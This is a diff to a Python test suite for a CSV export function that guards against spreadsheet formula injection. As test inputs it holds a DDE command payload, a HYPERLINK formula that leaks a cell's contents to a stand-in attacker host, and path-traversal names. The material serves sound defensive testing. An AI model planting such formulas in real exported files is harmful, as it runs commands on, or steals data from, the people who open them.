@@ -55,15 +55,21 @@ def test_pickle_weights_are_never_loaded(roots, tiny_model):
 
 
 def test_exported_csv_cells_cannot_start_a_formula():
-    df = pd.DataFrame(
-        {
-            "text": ["=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"],
-            "n": [1, 2, 3, 4, 5, 6, 7, 8],
-        }
-    )
+    texts = ["=cmd|' /C calc'!A0", "+1x", "-2 x", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", "  =1+1"]
+    texts.append("+44 20 7946 0958")  # a phone number is not a number: a spreadsheet reads a formula
+    df = pd.DataFrame({"text": texts, "n": range(1, 11)})
     out = pd.read_csv(__import__("io").BytesIO(safe_csv(df)), dtype=str, keep_default_na=False)
-    assert out["text"].tolist() == ["'=cmd|' /C calc'!A0", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b"]
-    assert out["n"].tolist() == [str(i) for i in range(1, 9)]  # numbers stay numbers
+    assert out["text"].tolist() == ["'" + t if t not in ("plain", "a=b") else t for t in texts]
+    assert out["n"].tolist() == [str(i) for i in range(1, 11)]  # numbers stay numbers
+
+
+def test_numbers_written_as_text_stay_as_they_are_and_headers_are_neutralised():
+    """-3.5 runs nothing in a spreadsheet: the download keeps the user's value. A header is a cell a spreadsheet
+    runs like any other."""
+    df = pd.DataFrame({'=HYPERLINK("http://evil.example/?"&A2)': ["-3.5", "+1e3", " -7", ".5"], "-n": [1, 2, 3, 4]})
+    out = pd.read_csv(__import__("io").BytesIO(safe_csv(df)), dtype=str, keep_default_na=False)
+    assert list(out.columns) == ['\'=HYPERLINK("http://evil.example/?"&A2)', "'-n"]
+    assert out.iloc[:, 0].tolist() == ["-3.5", "+1e3", " -7", ".5"]
 
 
 @pytest.mark.parametrize("name", ["../../etc", "a/b", "back\\slash", "x" * 101, "tab\tname"])
